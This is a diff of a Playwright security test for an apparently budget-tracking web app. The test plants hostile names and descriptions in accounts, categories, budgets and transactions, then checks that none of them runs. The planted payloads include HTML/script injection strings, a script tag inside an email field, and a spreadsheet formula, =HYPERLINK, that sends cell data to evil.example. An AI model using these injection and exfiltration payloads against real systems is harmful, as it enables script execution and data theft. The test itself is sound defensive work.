@@ -1,12 +1,13 @@
-/** Names and descriptions are text, whoever wrote them: on every screen, and in the spreadsheet that one exports. */
+/** Names and descriptions are text, on every screen and in exported spreadsheets. */
 import { readFile } from 'node:fs/promises';
 import { expect, type Page, test } from '@playwright/test';
 import { startTestBackend, type TestBackend } from '../support/backend.ts';
 import { appDir } from '../support/built-app.ts';
 import { signIn } from '../support/person.ts';
 
-/** Would run in a page that took it for HTML, whatever the policy on scripts says of the first. */
-const HTML = `"><img src=x onerror="window.broken=1"><script>window.broken=1</script><a href="javascript:window.broken=1">`;
+/** HTML that would run in a page that does not escape it. The script policy may block some of it. */
+const HTML =
+  '"><img src=x onerror="window.broken=1"><script>window.broken=1</script>' + '<a href="javascript:window.broken=1">';
 const FORMULA = `=HYPERLINK("https://evil.example?"&A1,"Total")`;
 
 let backend: TestBackend;
@@ -17,20 +18,25 @@ test.beforeAll(async () => {
 
 test.afterAll(() => backend.stop());
 
-/** Everything of the user's named by somebody who means no good. */
+/** Gives hostile names to everything that the user has. */
 async function poison(accountId: string): Promise<void> {
   const { sql } = backend;
-  await sql`update public.accounts set account_name = ${`Account ${HTML}`}, description = ${HTML} where account_id = ${accountId}`;
+  await sql`update public.accounts
+    set account_name = ${`Account ${HTML}`}, description = ${HTML}
+    where account_id = ${accountId}`;
   const [category] = await sql`insert into public.categories (account_id, name, type)
-    values (${accountId}, ${FORMULA}, 'expense'), (${accountId}, ${`Category ${HTML}`}, 'expense') returning category_id as id`;
+    values (${accountId}, ${FORMULA}, 'expense'), (${accountId}, ${`Category ${HTML}`}, 'expense')
+    returning category_id as id`;
   await sql`insert into public.budgets (account_id, name, amount, description, category_id, short_id)
     values (${accountId}, ${`Budget ${HTML}`}, 100, ${HTML}, ${category?.id}, 'ABCDEFG')`;
-  await sql`insert into public.transactions (account_id, type, amount, transaction_date, description, metadata, created_by, created_by_email)
-    select ${accountId}, 'debit', 5, current_date, ${`Entry ${HTML}`}, ${sql.json({ category_name: FORMULA, notes: HTML })},
+  await sql`insert into public.transactions
+    (account_id, type, amount, transaction_date, description, metadata, created_by, created_by_email)
+    select ${accountId}, 'debit', 5, current_date, ${`Entry ${HTML}`},
+      ${sql.json({ category_name: FORMULA, notes: HTML })},
       owner_id, 'eve<script>window.broken=1</script>@example.org' from public.accounts where account_id = ${accountId}`;
 }
 
-/** What the page has that only a broken one could have. */
+/** What only a broken page has. */
 function damage(page: Page): Promise<{ ran: boolean; elements: number }> {
   return page.evaluate(() => ({
     ran: 'broken' in window,
